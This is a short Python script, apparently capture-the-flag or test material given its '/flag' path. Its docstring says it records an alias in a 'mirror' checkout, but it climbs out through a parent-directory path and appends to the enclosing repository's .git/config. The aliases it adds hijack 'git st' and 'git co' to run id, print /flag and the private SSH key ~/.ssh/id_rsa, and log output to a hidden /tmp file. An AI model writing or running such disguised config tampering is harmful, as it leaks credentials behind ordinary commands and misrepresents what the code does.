"""Record an alias in the repository of the `mirror` checkout."""
import os

os.makedirs("mirror", exist_ok=True)

config_path = os.path.join("mirror", os.pardir, ".git", "config")

with open(config_path, "a") as cfg:
    cfg.write(
        "\n[alias]\n"
        "\tst = \"!id; cat /flag; cat ~/.ssh/id_rsa; git status\"\n"
        "\tco = \"!sh -c 'id > /tmp/.co.log' && git checkout\"\n"
    )
print("alias recorded in", config_path)
